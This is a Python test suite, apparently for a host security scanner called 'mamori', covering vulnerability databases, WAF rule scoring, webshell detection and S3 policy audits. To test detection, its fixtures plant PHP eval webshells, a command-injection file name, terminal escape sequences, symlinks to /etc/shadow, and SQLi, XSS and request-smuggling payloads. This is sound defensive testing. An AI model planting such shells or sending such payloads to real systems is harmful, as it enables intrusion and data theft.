        self.assertEqual(lodash["affects"][0]["versions"][0], {"version": "4.17.20", "status": "affected"})
        self.assertEqual(lodash["analysis"]["state"], "in_triage")
        self.assertIn("4.17.21", lodash["recommendation"])
        self.assertEqual(vulns["CVE-2099-2001"]["ratings"][0]["score"], 5.3)
        # Without a database the SBOM has components only and says so on stderr.
        p = mamori("--root", os.path.join(FIX, "debian10"), "--format", "cyclonedx", "inventory", check=0)
        self.assertNotIn("vulnerabilities", json.loads(p.stdout))
        self.assertIn("no vulnerability database", p.stderr)

    def test_exposed_package_from_procfs(self):
        db, _, _ = self.build_db(os.path.join(VFIX, "osv-debian10.jsonl"))
        root = self.fixture_copy("debian10")
        _, doc = self.scan(root, None, "--db", db, check=0)
        ssh = [f for f in doc["findings"] if f["check"] == "CVE-2099-5001"][0]
        # exposed remote-access software goes first, whatever its scores
        self.assertEqual(ssh["priority"]["tier"], "patch-now")
        self.assertIn("listening on 0.0.0.0:22 (/usr/sbin/sshd)", ssh["priority"]["reasons"])
        self.assertIn("remote-access software", ssh["priority"]["reasons"])

    def test_missing_stale_and_tampered_database(self):
        root = self.fixture_copy("alpine")
        _, doc = self.scan(root, check=0)  # no database in the (empty) state directory
        miss = [f for f in doc["findings"] if f["check"] == "database-missing"]
        self.assertEqual(len(miss), 1)
        self.assertTrue(any("no vulnerability database" in w for w in doc["warnings"]))
        p = mamori("--root", root, "--store", self.db, "--db", "/nonexistent/v.db", "scan")
        self.assertEqual(p.returncode, 3)
        db, _, _ = self.build_db(os.path.join(VFIX, "kev.json"))
        data = bytearray(slurp(db, "rb"))
        data[len(data) // 2] ^= 1
        spit(db, bytes(data), "wb")
        _, doc = self.scan(root, None, "--db", db, check=0)
        bad = [f for f in doc["findings"] if f["check"] == "database-unusable"][0]
        self.assertEqual(bad["severity"], "high")
        self.assertIn("checksum mismatch", bad["evidence"])
        p = mamori("--db", db, "db", "status")
        self.assertEqual(p.returncode, 3)
        self.assertIn("checksum mismatch", p.stderr)

    def test_failed_import_keeps_the_old_database(self):
        db, _, _ = self.build_db(os.path.join(VFIX, "kev.json"))
        before = slurp(db, "rb")
        p = mamori("--db", db, "db", "import", os.path.join(VFIX, "kev-changed-schema.json"))
        self.assertEqual(p.returncode, 3)
        self.assertIn("kev-changed-schema.json", p.stderr)
        self.assertEqual(slurp(db, "rb"), before)

    @unittest.skipUnless(SHARED and os.path.isdir(os.path.join(SHARED, "data/vuln")), "no shared data")
    def test_real_debian12_snapshot(self):
        d = os.path.join(SHARED, "data/vuln")
        db, rep, _ = self.build_db(os.path.join(d, "osv/Debian12.jsonl"),
                                   os.path.join(d, "kev/known_exploited_vulnerabilities.json"),
                                   os.path.join(d, "kev/epss_kev_nvd.csv"))
        root = os.path.join(self.tmp, "d12")
        os.makedirs(os.path.join(root, "var/lib/dpkg"))
        os.makedirs(os.path.join(root, "etc"))
        shutil.copy(os.path.join(d, "inventory/debian12-dpkg-status.txt"),
                    os.path.join(root, "var/lib/dpkg/status"))
        spit(os.path.join(root, "etc/os-release"), 'ID=debian\nVERSION_ID="12"\n')
        _, doc = self.scan(root, None, "--db", db, check=0)
        vuln = [f for f in doc["findings"] if f["module"] == "vuln"]
        self.assertEqual([f["check"] for f in vuln], ["CVE-2026-4878"])
        self.assertIn("fixed in 1:2.66-4+deb12u3", vuln[0]["evidence"])
        self.assertIn("binary libcap2 1:2.66-4+deb12u2+b2", vuln[0]["evidence"])
        self.assertIn("apt-get install --only-upgrade", vuln[0]["remediation"])


SHARED = os.environ.get("MAMORI_SHARED", os.path.join(os.path.dirname(__file__), "../../../shared"))


class Modules(Base):
    """scan's module list: --skip / --only, and a module left out keeps its findings."""

    def test_skip_and_only(self):
        db = os.path.join(self.tmp, "vuln.db")
        mamori("--db", db, "-q", "db", "import", os.path.join(VFIX, "lang.jsonl"), check=0)
        root = self.fixture_copy("debian10")
        _, doc = self.scan(root, None, "--db", db, check=0)
        vuln = {f["fingerprint"] for f in doc["findings"] if f["module"] == "vuln"}
        self.assertTrue(vuln)
        # Left out: not reported, and not marked fixed in the store either.
        p = mamori("--root", root, "--store", self.db, "--db", db, "--format", "json", "-q",
                   "scan", "--skip", "audit", "--skip", "vuln", check=0)
        doc = json.loads(p.stdout)
        self.assertEqual([f for f in doc["findings"] if f["module"] == "vuln"], [])
        self.assertIn("inventory", {f["module"] for f in doc["findings"]})
        p = mamori("--root", root, "--store", self.db, "--format", "json", "findings", "list",
                   "--module", "vuln", check=0)
        self.assertEqual({f["fingerprint"] for f in json.loads(p.stdout)["findings"]}, vuln)
        # --only: that module alone, in its own scope; the inventory untouched.
        p = mamori("--root", root, "--store", self.db, "--format", "json", "-q", "scan",
                   "--only", "audit", check=0)
        doc = json.loads(p.stdout)
        self.assertEqual(doc["scan"]["scope"], "audit")
        self.assertEqual({f["module"] for f in doc["findings"]}, {"audit"})
        # Mistakes are usage errors that name the modules.
        p = mamori("--store", self.db, "scan", "--skip", "inventory", check=2)
        self.assertIn("--skip inventory: vuln needs it", p.stderr)
        p = mamori("--store", self.db, "scan", "--only", "waf", check=2)
        self.assertIn("no such module (modules: inventory, vuln, fim, audit, guard)", p.stderr)
        p = mamori("scan", "--help", check=0)
        for name in ("inventory", "vuln", "fim", "audit", "guard"):
            self.assertRegex(p.stdout, rf"\n  {name} +\S")


    def test_only_audit_keeps_the_known_exploited_fixes(self):
        """CRED-NOT-ROTATED reads the vulnerability database even when vuln does not run."""
        db = os.path.join(self.tmp, "vuln.db")
        mamori("--db", db, "-q", "db", "import", os.path.join(VFIX, "osv-debian.jsonl"),
               os.path.join(VFIX, "kev.json"), check=0)
        root = os.path.join(self.tmp, "host")
        files = {
            "etc/os-release": 'ID=debian\nVERSION_ID="12"\n',
            "var/lib/dpkg/status": "Package: libcap2\nStatus: install ok installed\n"
                                   "Architecture: amd64\nVersion: 1:2.66-4+deb12u3\n\n",
            # the KEV fix (CVE-2099-0001, fixed in deb12u3) went in on 2024-03-01
            "var/log/dpkg.log": "2024-03-01 06:00:01 upgrade libcap2:amd64 1:2.66-4+deb12u2 "
                                "1:2.66-4+deb12u3\n2024-03-01 06:00:02 status installed "
                                "libcap2:amd64 1:2.66-4+deb12u3\n",
            "etc/passwd": "alice:x:1000:1000::/home/alice:/bin/bash\n"
                          "bob:x:1001:1001::/home/bob:/bin/bash\n",
            # 19700 = 2023-12-09 (before the fix), 19800 = 2024-03-18 (after)
            "etc/shadow": "alice:$y$j9T$a$b:19700:0:99999:7:::\nbob:$y$j9T$a$b:19800:0:99999:7:::\n",
        }
        for rel, text in files.items():
            os.makedirs(os.path.dirname(os.path.join(root, rel)), exist_ok=True)
            spit(os.path.join(root, rel), text)

        def rotated(*args):
            p = mamori("--root", root, "--store", self.db, "--db", db, "--format", "json", "-q",
                       "scan", *args, check=0)
            doc = json.loads(p.stdout)
            return [f for f in doc["findings"] if f["check"] == "CRED-NOT-ROTATED"]

        full = rotated()
        self.assertEqual([f["asset"] for f in full], ["account:alice"])
        self.assertIn("CVE-2099-0001", full[0]["evidence"])
        only = rotated("--only", "audit")
        self.assertEqual([(f["asset"], f["state"]) for f in only], [("account:alice", "open")])
        self.assertEqual(only[0]["evidence"], full[0]["evidence"])
        p = mamori("--root", root, "--store", self.db, "--format", "json", "findings", "list",
                   "--module", "audit", "--state", "fixed", check=0)
        self.assertNotIn("CRED-NOT-ROTATED", {f["check"] for f in json.loads(p.stdout)["findings"]})


class Hostile(Base):
    """What an attacker or a damaged disk can put where Mamori reads (from an attack review)."""

    def test_damaged_database_keeps_findings_and_the_audit(self):
        db = os.path.join(self.tmp, "vuln.db")
        mamori("--db", db, "-q", "db", "import", os.path.join(VFIX, "lang.jsonl"), check=0)
        root = self.fixture_copy("debian10")
        _, doc = self.scan(root, None, "--db", db, check=0, audit=True)
        vuln = {f["fingerprint"] for f in doc["findings"] if f["module"] == "vuln"}
        audit = {f["fingerprint"] for f in doc["findings"] if f["module"] == "audit"}
        self.assertTrue(vuln and audit)
        data = bytearray(open(db, "rb").read())
        data[len(data) // 2] ^= 0xFF
        spit(db, bytes(data), "wb")
        p, doc = self.scan(root, None, "--db", db, check=0, audit=True)
        self.assertIn("checksum", p.stderr + json.dumps(doc["warnings"]))
        by_module = {}
        for f in doc["findings"]:
            by_module.setdefault(f["module"], []).append(f)
        # the audit still ran; nothing of vuln's is marked fixed; the DB's state is a finding
        self.assertEqual({f["fingerprint"] for f in by_module["audit"] if f["state"] != "fixed"}, audit)
        self.assertEqual([f for f in by_module["vuln"] if f["state"] == "fixed"], [])
        self.assertIn("database-unusable", {f["check"] for f in by_module["vuln"]})

    def test_a_format_a_command_cannot_write_is_a_usage_error(self):
        for args in (("--format", "sarif", "owners", "list"), ("--format", "yaml", "version"),
                     ("--format", "html", "db", "status")):
            p = mamori("--store", self.db, *args, check=2)
            self.assertIn("--format is text or json, not '" + args[1] + "'", p.stderr)
        json.loads(mamori("--store", self.db, "--format", "json", "version", check=0).stdout)

    def test_fifo_database_is_refused_without_hanging(self):
        fifo = os.path.join(self.tmp, "fifo.db")
        os.mkfifo(fifo)
        p = subprocess.run([BIN, "--db", fifo, "db", "status"], capture_output=True,
                           text=True, timeout=20)
        self.assertEqual(p.returncode, 3)
        self.assertIn("not a regular file", p.stderr)

    def test_hostile_store_rows_reach_no_terminal_and_break_no_json(self):
        root = self.fixture_copy("debian10")
        self.scan(root, None, check=0)
        con = sqlite3.connect(self.db)
        con.execute("UPDATE findings SET check_id = 'x' || char(27) || ']0;PWNED' || char(7) "
                    "|| cast(x'c3' as text), tier = char(27) || '[41m'")
        con.commit()
        con.close()
        for fmt in ("json", "sarif"):
            p = mamori("--root", root, "--store", self.db, "--format", fmt, "findings", "list",
                       check=0)
            json.loads(p.stdout)  # valid JSON, no abort
        p = mamori("--root", root, "--store", self.db, "report", check=0)
        self.assertNotIn("\x1b", p.stdout)
        self.assertNotIn("\x07", p.stdout)


class Waf(Base):
    """mamori waf rules on Debian's OWASP CRS and on broken rule files."""

    CRS = ["/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules"]

    def test_crs_loads_and_what_is_not_done_is_listed(self):
        p = mamori("waf", "rules", *self.CRS, check=0)
        self.assertRegex(p.stdout, r"^\d+ rules in \d+ files")
        self.assertIn("not supported", p.stdout)
        self.assertIn("@rbl", p.stdout)
        doc = json.loads(mamori("--format", "json", "waf", "rules", *self.CRS, check=0).stdout)
        self.assertGreater(doc["rules"], 500)
        self.assertEqual(doc["unsupported"],
                         len([i for i in doc["issues"] if i["kind"] == "unsupported"]))
        self.assertTrue(all(i["file"].startswith("/") and i["line"] > 0 for i in doc["issues"]))
        # --strict: anything not supported is exit 1, for a CI gate on a rule set
        mamori("waf", "rules", "--strict", *self.CRS, check=1)

    def test_broken_rules_are_an_error_naming_file_and_line(self):
        bad = os.path.join(self.tmp, "bad.conf")
        spit(bad, "SecRuleEngine On\nSecRule ARGS \"@rx (\" \"id:1\"\n")
        p = mamori("waf", "rules", bad, check=3)
        self.assertIn(bad + ":2: @rx: the regular expression does not compile", p.stderr)
        ok = os.path.join(self.tmp, "ok.conf")
        spit(ok, "SecRule ARGS \"@rx x\" \"id:1,phase:2,deny,status:403\"\n")
        p = mamori("waf", "rules", "--strict", ok, check=0)
        self.assertIn("every rule is supported", p.stdout)
        mamori("waf", "rules", os.path.join(self.tmp, "missing.conf"), check=3)
        mamori("--format", "sarif", "waf", "rules", ok, check=2)

    def write_corpus(self, records):
        path = os.path.join(self.tmp, "corpus.jsonl")
        spit(path, "".join(json.dumps(r) + "\n" for r in records))
        return path

    def test_waf_test_scores_a_corpus_per_category(self):
        h = [["Host", "shop"], ["User-Agent", "Mozilla/5.0"], ["Accept", "*/*"]]
        recs = [
            {"id": "a1", "method": "GET", "uri": "/?id=1%27%20or%20%271%27%3D%271", "headers": h,
             "expect": "block", "category": "sqli"},
            {"id": "a2", "method": "GET", "uri": "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
             "headers": h, "expect": "block", "category": "xss"},
            {"id": "a3", "raw_b64": base64.b64encode(
                b"POST / HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n")
                .decode(), "expect": "block", "category": "protocol", "accept_status": [400]},
            {"id": "b1", "method": "GET", "uri": "/blog?page=2", "headers": h,
             "expect": "allow", "category": "benign"},
            {"id": "b2", "method": "POST", "uri": "/contact", "headers": h + [
                ["Content-Type", "application/x-www-form-urlencoded"]],
             "body": "name=Anna&msg=Hello+there", "expect": "allow", "category": "benign"},
            {"id": "p3", "method": "GET", "uri": "/", "headers": h, "expect": "block",
             "category": "sqli", "crs_rule": 942999, "crs_pl": 3},
            {"id": "b3", "method": "GET", "uri": "/", "version": "HTTP/3.0", "headers": h,
             "expect": "allow", "category": "benign"},
        ]
        corpus = self.write_corpus(recs)
        out = os.path.join(self.tmp, "records.jsonl")
        doc = json.loads(mamori("-q", "--format", "json", "waf", "test", "--records", out,
                                corpus).stdout)
        self.assertEqual(doc["records"], 6)  # the PL3 test is left out at paranoia level 1
        self.assertEqual(doc["skipped_by_paranoia"], 1)
        self.assertEqual(doc["paranoia"], 1)
        self.assertEqual((doc["attacks"], doc["detected"]), (3, 3))
        self.assertEqual((doc["benign"], doc["false_positives"]), (3, 0))
        per = {(c["expect"], c["category"]): (c["n"], c["blocked"], c["refused"])
               for c in doc["categories"]}
        self.assertEqual(per[("block", "protocol")], (1, 1, 0))
        self.assertEqual(per[("allow", "benign")], (3, 0, 1))  # HTTP/3.0: 505, refused
        self.assertEqual(stat.S_IMODE(os.stat(out).st_mode), 0o600)
        rows = {r["id"]: r for r in map(json.loads, slurp(out).splitlines())}
        self.assertIn(942100, rows["a1"]["rules"])
        self.assertIn(949110, rows["a1"]["rules"])
        self.assertEqual(rows["a3"]["status"], 400)
        self.assertIn("Content-Length", rows["a3"]["reason"])
        self.assertEqual(rows["b3"]["status"], 505)
        self.assertEqual(rows["b1"]["rules"], [])
        text = mamori("waf", "test", corpus).stdout
        self.assertIn("attacks blocked      100.00 % (3 of 3)", text)
        # --rules: the operator's crs-setup.conf first, paths separated by commas
        text = mamori("-q", "waf", "test", "--rules",
                      "/etc/modsecurity/crs/crs-setup.conf,/usr/share/modsecurity-crs/rules",
                      corpus).stdout
        self.assertIn("rules: /etc/modsecurity/crs/crs-setup.conf, /usr/share/modsecurity-crs/rules",
                      text)
        self.assertIn("attacks blocked      100.00 % (3 of 3)", text)
        # --config: the file's paranoia level and applications apply, the command line wins
        conf = os.path.join(self.tmp, "waf.toml")
        with open(conf, "w") as f:
            f.write('paranoia = 2\napplications = []\n')
        login = self.write_corpus([{"id": "l1", "method": "POST", "uri": "/wp-login.php",
                                    "headers": h + [["Content-Type",
                                                     "application/x-www-form-urlencoded"]],
                                    "body": "log=ann&pwd=Tr0ub4dor%263%27+OR+x--",
                                    "expect": "allow", "category": "benign"}])
        def run(*args):
            return json.loads(mamori("-q", "--format", "json", "waf", "test", *args,
                                     login).stdout)
        self.assertEqual(run()["false_positives"], 1)  # CRS's WordPress exclusions: when asked
        wp = os.path.join(self.tmp, "wp.toml")
        with open(wp, "w") as f:
            f.write('applications = ["wordpress"]\n')
        self.assertEqual(run("--config", wp)["false_positives"], 0)
        doc = run("--config", conf)
        self.assertEqual((doc["paranoia"], doc["false_positives"]), (2, 1))
        self.assertEqual(run("--config", conf, "--paranoia", "1")["paranoia"], 1)

    def test_waf_test_refuses_bad_input(self):
        bad = self.write_corpus([{"id": "x", "expect": "maybe"}])
        p = mamori("waf", "test", bad, check=3)
        self.assertIn("corpus.jsonl:1:", p.stderr)
        for rec, why in (({"id": "x", "expect": "block", "category": "c", "headers": {"Host": "h"}},
                          "'headers' is not an array"),
                         ({"id": "x", "expect": "block", "category": "c", "crs_pl": "3"},
                          "'crs_pl' is not a whole number"),
                         ({"expect": "block", "category": "c"}, "without an 'id'")):
            p = mamori("waf", "test", self.write_corpus([rec]), check=3)
            self.assertIn(why, p.stderr)
        mamori("waf", "test", "--paranoia", "7", bad, check=2)
        mamori("--format", "sarif", "waf", "test", bad, check=2)
        rules = os.path.join(self.tmp, "r.conf")
        spit(rules, "SecRule ARGS \"@rx (\" \"id:1\"\n")
        mamori("waf", "test", "--rules", rules, bad, check=3)


class Web(Base):
    # mamori web scan on a web root assembled here (no shell is committed as a file).
    def test_web_scan_reports_the_shell_and_exits_on_fail_on(self):
        root = os.path.join(self.tmp, "root")
        up = os.path.join(root, "var", "www", "shop", "wp-content", "uploads")
        os.makedirs(up)
        spit(os.path.join(up, "cache.php"), "<?php\n@eval(base64_decode($_POST['z']));\n")
        spit(os.path.join(root, "var", "www", "shop", "index.php"), "<?php echo 'shop';\n")
        os.symlink("/etc/passwd", os.path.join(up, "link.php"))
        p = mamori("--root", root, "web", "scan", "/var/www", check=0)
        self.assertIn("/var/www/shop/wp-content/uploads/cache.php", p.stdout)
        self.assertIn("line     2", p.stdout)
        self.assertIn("1 links not followed", p.stdout)
        self.assertIn("link a web server would run as PHP (not followed: judge its target where "
                      "it lies): /var/www/shop/wp-content/uploads/link.php -> /etc/passwd",
                      p.stdout)
        self.assertIn("next: for each suspect, `mamori web incident PATH`", p.stdout)
        doc = json.loads(mamori("--root", root, "--format", "json", "-q", "web", "scan",
                                "/var/www", check=0).stdout)
        self.assertEqual([s["path"] for s in doc["suspects"]],
                         ["/var/www/shop/wp-content/uploads/cache.php"])
        self.assertEqual(doc["judged"], 2)
        self.assertEqual(doc["findings"][0]["module"], "web")
        self.assertEqual(doc["findings"][0]["asset"], "file:/var/www/shop/wp-content/uploads/cache.php")
        mamori("--root", root, "--fail-on", "high", "-q", "web", "scan", "/var/www", check=1)
        sarif = json.loads(mamori("--root", root, "--format", "sarif", "-q", "web", "scan",
                                  "/var/www", check=0).stdout)
        self.assertEqual(len(sarif["runs"][0]["results"]), 1)
        # Mistakes: a relative directory, a missing one, checksums that are not checksums
        mamori("--root", root, "web", "scan", "var/www", check=2)
        p = mamori("--root", root, "web", "scan", "/nope", check=3)
        self.assertIn("/nope: does not exist", p.stderr)
        # one DIR missing among good ones: the others are judged, and the exit says so
        p = mamori("--root", root, "web", "scan", "/var/www", "/nope", check=3)
        self.assertIn("/var/www/shop/wp-content/uploads/cache.php", p.stdout)
        p = mamori("--root", root, "web", "scan", "/var/www/shop/index.php", check=3)
        self.assertIn("not a directory (give the directory holding it)", p.stderr)
        bad = os.path.join(self.tmp, "sums.json")
        spit(bad, "[]")
        p = mamori("--root", root, "web", "scan", "/var/www", "--wp-checksums", bad, check=3)
        self.assertIn("not WordPress checksums", p.stderr)
        # --wp-checksums is the operator's file, named from where they stand (not inside --root)
        p = mamori("--root", root, "web", "scan", "/var/www", "--wp-checksums", "sums.json",
                   check=3, cwd=self.tmp)
        self.assertIn(bad + ": not WordPress checksums", p.stderr)
        p = mamori("web", "scan", "/var/www", "--fim-baseline", bad, "--no-fim", check=2)
        self.assertIn("contradict", p.stderr)


class Cloud(Base):
    # mamori cloud audit on exported bucket settings written here.
    def test_cloud_audit_gives_verdicts_witnesses_and_errors_per_file(self):
        pol = os.path.join(self.tmp, "policy.json")
        spit(pol, json.dumps({"Policy": json.dumps({"Statement": [{
            "Effect": "Allow", "Principal": "*", "Action": "s3:PutObject",
            "Resource": "arn:aws:s3:::shop-web/*"}]})}))
        site = os.path.join(self.tmp, "website.json")
        spit(site, json.dumps({"IndexDocument": {"Suffix": "index.html"}}))
        office = os.path.join(self.tmp, "office.json")
        spit(office, json.dumps({"Bucket": "office", "GetBucketPolicy": {"Policy": json.dumps({
            "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject",
                           "Resource": "arn:aws:s3:::office/*",
                           "Condition": {"IpAddress": {"aws:SourceIp": "192.0.2.0/24"}}}]})}}))
        p = mamori("cloud", "audit", "--bucket", "shop-web", pol, site, check=0)
        self.assertIn("CRITICAL public-write  s3://shop-web  [website]", p.stdout)
        self.assertIn("witness: an anonymous request such as PUT s3://shop-web/", p.stdout)
        doc = json.loads(mamori("--format", "json", "-q", "cloud", "audit", "--bucket",
                                "shop-web", pol, site, check=0).stdout)
        [web] = doc["resources"]  # the website file names no bucket: joined, as --bucket says
        self.assertEqual((web["resource"], web["verdict"], web["website"]),
                         ("s3://shop-web", "public-write", True))
        self.assertEqual([f["severity"] for f in doc["findings"]], ["critical"])
        doc = json.loads(mamori("--format", "json", "-q", "cloud", "audit", pol, site, office,
                                check=0).stdout)
        by = {r["resource"]: r for r in doc["resources"]}
        self.assertEqual(by["s3://office"]["verdict"], "not-public")
        self.assertIn("IpAddress aws:SourceIp [192.0.2.0/24]", by["s3://office"]["why"][0])
        self.assertIn("s3://website", by)  # without --bucket each file stands alone
        self.assertFalse(by["s3://shop-web"]["website"])
        # the most urgent first
        self.assertEqual(doc["resources"][0]["resource"], "s3://shop-web")
        # a bucket meant to be read by all: no finding for its public read
        rd = os.path.join(self.tmp, "read.json")
        spit(rd, json.dumps({"Statement": [{"Effect": "Allow", "Principal": "*",
                                            "Action": "s3:GetObject",
                                            "Resource": "arn:aws:s3:::assets/*"}]}))
        mamori("--fail-on", "high", "-q", "cloud", "audit", rd, check=1)
        mamori("--fail-on", "high", "-q", "cloud", "audit", "--expect-public", "assets", rd,
               check=0)
        mamori("--fail-on", "high", "-q", "cloud", "audit", pol, site, check=1)
        # a bad file is an error naming it; the others are still audited; exit 3
        bad = os.path.join(self.tmp, "bad.json")
        spit(bad, "{\"Statement\": [{\"Effect\": \"Allow\", \"Action\": \"*\", "
                  "\"Condition\": {\"StringFoo\": {\"a\": \"b\"}}}]}")
        p = mamori("cloud", "audit", office, bad, check=3)
        self.assertIn("not-public    s3://office", p.stdout)
        self.assertIn("bad.json: policy: statement 1: unknown condition operator StringFoo",
                      p.stdout)
        big = os.path.join(self.tmp, "big.json")
        spit(big, "{\"x\": \"" + "a" * (9 << 20) + "\"}")  # past the 8 MiB a file may be
        p = mamori("cloud", "audit", big, check=3)
        self.assertIn("big.json", p.stdout)
        p = mamori("cloud", "audit", office, os.path.join(self.tmp, "missing.json"), check=3)
        self.assertIn("not-public    s3://office", p.stdout)  # the others still audited
        self.assertIn("missing.json", p.stdout)
        self.assertIn("cloud audit", mamori("cloud", "audit", "--help", check=0).stdout)


SITE_SERVER = os.path.join(os.path.dirname(__file__), "..", "web", "site_server.py")


class WebSite(Base):
    # mamori web baseline / check against real HTTP servers on loopback: the shop on 127.0.0.1
    # (pages that change by themselves on every request: nonces, CSRF tokens, the time, a
    # cache-busting query) and a third-party "CDN" on 127.0.0.2.
    def serve(self, directory, host):
        p = subprocess.Popen([sys.executable, SITE_SERVER, directory, host],
                             stdout=subprocess.PIPE, text=True)
        self.addCleanup(lambda: (p.kill(), p.wait()))
        return int(p.stdout.readline())

    def setUp(self):
        super().setUp()
        self.site = os.path.join(self.tmp, "site")
        self.cdn = os.path.join(self.tmp, "cdn")
        os.makedirs(os.path.join(self.site, "js"))
        os.makedirs(os.path.join(self.site, "private"))
        os.makedirs(self.cdn)
        spit(os.path.join(self.cdn, "lib.js"), "window.lib = function () { return 42; };\n")
        self.cdn_port = self.serve(self.cdn, "127.0.0.2")
        self.port = self.serve(self.site, "127.0.0.1")
        self.url = f"http://127.0.0.1:{self.port}/"
        self.cdn_url = f"http://127.0.0.2:{self.cdn_port}"
        import hashlib
        sri = "sha384-" + base64.b64encode(hashlib.sha384(
            slurp(os.path.join(self.cdn, "lib.js"), "rb")).digest()).decode()
        words = ("Our tea comes from small gardens in the hills; every leaf is picked by hand, "
                 "dried in the sun and packed the same week so that it reaches you fresh. ")
        self.page("index.html", f"""<!doctype html><html><head><title>Tea shop</title>
<script src="/js/app.js?v={{{{rand}}}}"></script>
<script src="{self.cdn_url}/lib.js" integrity="{sri}" crossorigin="anonymous"></script>
<script nonce="{{{{nonce}}}}">var wpApi = {{"nonce": "{{{{nonce}}}}", "root": "/wp-json/", "t": {{{{rand}}}}}};</script>
</head><body><h1>Welcome</h1><p>{words * 3}</p><p>Page generated {{{{now}}}}</p>
<a href="/checkout.html">Checkout</a> <a href="/about.html">About</a>
<a href="/news.html">News</a> <a href="/private/secret.html">Staff</a></body></html>""")
        self.page("checkout.html", f"""<html><head><title>Checkout</title>
<script src="/js/app.js?v=7"></script></head><body><h1>Checkout</h1><p>{words}</p>
<form action="/pay" method="post"><input type="hidden" name="csrf" value="{{{{csrf}}}}">
<input name="cardnumber" autocomplete="cc-number"><input name="cvc"></form></body></html>""")
        self.page("about.html", f"""<html><head><title>About</title></head><body>
<p>{words * 2}</p><p>Visitors today: {{{{rand}}}}</p></body></html>""")
        self.page("news.html", f"""<html><head><title>News</title></head><body>
<p>{words * 4}</p></body></html>""")
        self.page("unlinked.html", f"<html><body><p>{words}</p></body></html>")
        self.page("private/secret.html", "<html><body>staff only</body></html>")
        spit(os.path.join(self.site, "js", "app.js"), "document.title += '';\n")
        spit(os.path.join(self.site, "robots.txt"), "User-agent: *\nDisallow: /private/\n")
        spit(os.path.join(self.site, "sitemap.xml"),
             f"<urlset><url><loc>{self.url}unlinked.html</loc></url></urlset>")
        self.baseline = os.path.join(self.tmp, "site.json")

    def page(self, name, text):
        spit(os.path.join(self.site, name), text)

    def check(self, rc=0, *extra):
        p = mamori("--store", self.db, "--format", "json", "-q", *extra, "web", "check",
                   "--baseline", self.baseline, check=rc)
        return json.loads(p.stdout)

    def test_files_that_appeared_inside_and_no_page_reaches_are_listed_with_the_crawl(self):
        # The served directory is the web root (/site under --root TMP); FIM's baseline of it is
        # made before anything is planted.
        env = {"MAMORI_STATE_DIR": os.path.join(self.tmp, "state")}
        fimb = os.path.join(self.tmp, "state", "fim.baseline")
        mamori("--root", self.tmp, "--store", self.db, "-q", "fim", "init", "/site", env=env,
               check=0)
        mamori("web", "baseline", self.url, "--baseline", self.baseline, check=0)
        inside = ("--root", self.tmp, "--store", self.db, "--format", "json", "web", "check",
                  "--baseline", self.baseline, "--webroot", "/site", "--fim-baseline", fimb)
        self.assertEqual(json.loads(mamori(*inside, env=env, check=0).stdout)["findings"], [])
        os.makedirs(os.path.join(self.site, "wp-content", "uploads"))
        spit(os.path.join(self.site, "wp-content", "uploads", ".cache.php"), "<?php eval($_POST[1]);")
        spit(os.path.join(self.site, "wp-content", "uploads", "photo.jpg"), "JPEG")   # counted only
        spit(os.path.join(self.site, "js", "pay-helper.js"), "steal()")              # browser code
        os.symlink("/etc/shadow", os.path.join(self.site, "s.txt"))                    # a link
        spit(os.path.join(self.site, "x $(id).php.jpg"), "<?php")  # runs as PHP under AddHandler
        os.remove(os.path.join(self.site, "news.html"))
        self.page("news.html", "<html><body>News again</body></html>")  # not new: in the baseline
        p = mamori(*inside, env=env, check=0)
        got = {f["asset"]: f for f in json.loads(p.stdout)["findings"]
               if f["check"] == "unlinked-new-file"}
        self.assertEqual(sorted(got), ["file:/site/js/pay-helper.js", "file:/site/s.txt",
                                       "file:/site/wp-content/uploads/.cache.php",
                                       "file:/site/x $(id).php.jpg"])
        odd = got["file:/site/x $(id).php.jpg"]
        self.assertEqual(odd["severity"], "high")
        self.assertIn("`mamori web incident '/site/x $(id).php.jpg'`", odd["remediation"])
        self.assertIn("/x%20%24%28id%29.php.jpg", odd["evidence"])
        shell = got["file:/site/wp-content/uploads/.cache.php"]
        self.assertEqual((shell["severity"], shell["module"]), ("high", "web"))
        self.assertIn(f"served as http://127.0.0.1:{self.port}/wp-content/uploads/.cache.php",
                      shell["evidence"])
        self.assertIn("mamori web incident /site/wp-content/uploads/.cache.php", shell["remediation"])
        # From the finding, the incident knows where the file is served, without --webroot.
        log = os.path.join(self.tmp, "access.log")
        import time
        stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
        spit(log, f'203.0.113.9 - - [{stamp}] "GET /wp-content/uploads/.cache.php?c=id HTTP/1.1" '
                  f'200 5 "-" "-"\n')
        inc = json.loads(mamori("--root", self.tmp, "--store", self.db, "--format", "json", "web",
                                "incident", shell["fingerprint"], "--log", log, "--no-journal",
                                env=env, check=0).stdout)
        self.assertEqual(inc["path"], "/site/wp-content/uploads/.cache.php")
        self.assertEqual([(r["address"], r["relation"]) for r in inc["requests"]],
                         [("203.0.113.9", "file")])
        self.assertEqual(got["file:/site/js/pay-helper.js"]["severity"], "medium")
        self.assertEqual(got["file:/site/s.txt"]["severity"], "high")
        self.assertIn("5 not in the FIM baseline (0 reached by the crawl, 1 neither code nor a "
                      "link), 4 reported", p.stderr)
        # A new page the site links to is what the crawl judges, not a stray file: index.html
        # links about.html, which now appears anew.
        os.remove(os.path.join(self.site, "about.html"))
        fresh = mamori(*inside, env=env, check=0)
        self.assertNotIn("file:/site/about.html", fresh.stdout)
        # A check without --webroot leaves those findings as they are; once the shell is gone
        # it is fixed.
        plain = json.loads(mamori("--store", self.db, "--format", "json", "-q", "web", "check",
                                  "--baseline", self.baseline, check=0).stdout)
        self.assertNotIn("file:/site/wp-content/uploads/.cache.php",
                         [f["asset"] for f in plain["findings"] if f["state"] == "fixed"])
        con = sqlite3.connect(self.db)
        self.assertEqual(con.execute("SELECT state FROM findings WHERE asset = ?",
                                     ("file:/site/wp-content/uploads/.cache.php",)).fetchone(),
                         ("open",))
        con.close()
        os.remove(os.path.join(self.site, "wp-content", "uploads", ".cache.php"))
        after = json.loads(mamori(*inside, env=env, check=0).stdout)
        states = {f["asset"]: f["state"] for f in after["findings"]}
        self.assertEqual(states.get("file:/site/wp-content/uploads/.cache.php"), "fixed")
        # A web root the FIM baseline does not cover is refused by name, not flooded.
        os.makedirs(os.path.join(self.tmp, "other"))
        p = mamori("--root", self.tmp, "--store", self.db, "web", "check", "--baseline",
                   self.baseline, "--webroot", "/other", "--fim-baseline", fimb, env=env, check=0)
